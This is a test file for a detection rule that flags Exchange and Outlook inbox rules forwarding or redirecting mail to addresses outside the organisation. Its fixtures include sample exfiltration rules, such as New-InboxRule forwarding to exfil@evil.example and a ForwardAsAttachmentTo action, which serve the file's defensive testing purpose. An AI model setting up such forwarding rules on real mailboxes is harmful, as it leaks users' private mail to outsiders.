import { describe } from "vitest";
import rule from "../../../src/findings/rules/inbox-rule-forward-external/rule.js";
import { cmdlet, DOMAIN, record, ruleCases } from "../rule-cases.js";

describe("inbox-rule-forward-external", () => {
  ruleCases(rule, {
    positive: [
      {
        name: "New-InboxRule ForwardTo an outside address",
        records: [cmdlet("New-InboxRule", { Name: "x", ForwardTo: "exfil@evil.example" })],
        findings: 1,
        reason: /"x" forwarding to exfil@evil\.example, outside the tenant's domains \(contoso\.example\)/,
        severity: "high",
      },
      {
        name: "Set-InboxRule RedirectTo in Exchange's display form",
        records: [cmdlet("Set-InboxRule", { Identity: "r", RedirectTo: '"Ex" [SMTP:ex@evil.example]' })],
        findings: 1,
      },
      {
        name: "UpdateInboxRules from Outlook with ForwardAsAttachmentTo",
        records: [
          record({
            Operation: "UpdateInboxRules",
            OperationProperties: [
              { Name: "RuleName", Value: "o" },
              { Name: "RuleActions", Value: "ForwardAsAttachmentTo:a@evil.example" },
            ],
          }),
        ],
        findings: 1,
      },
    ],
    negative: [
      {
        name: "forwarding to a colleague",
        records: [cmdlet("New-InboxRule", { Name: "c", ForwardTo: `bob@${DOMAIN}` })],
        findings: 0,
      },
      {
        name: "a rule that only moves mail",
        records: [cmdlet("New-InboxRule", { Name: "m", MoveToFolder: "Newsletters" })],
        findings: 0,
      },
    ],
    boundary: [
      {
        name: "a subdomain of an accepted domain is internal",
        records: [cmdlet("New-InboxRule", { Name: "s", ForwardTo: `x@eu.${DOMAIN}` })],
        findings: 0,
      },
      {
        name: "a look-alike domain ending in the same text is outside",
        records: [cmdlet("New-InboxRule", { Name: "l", ForwardTo: `x@evil${DOMAIN}` })],
        findings: 1,
      },
    ],
  });
});
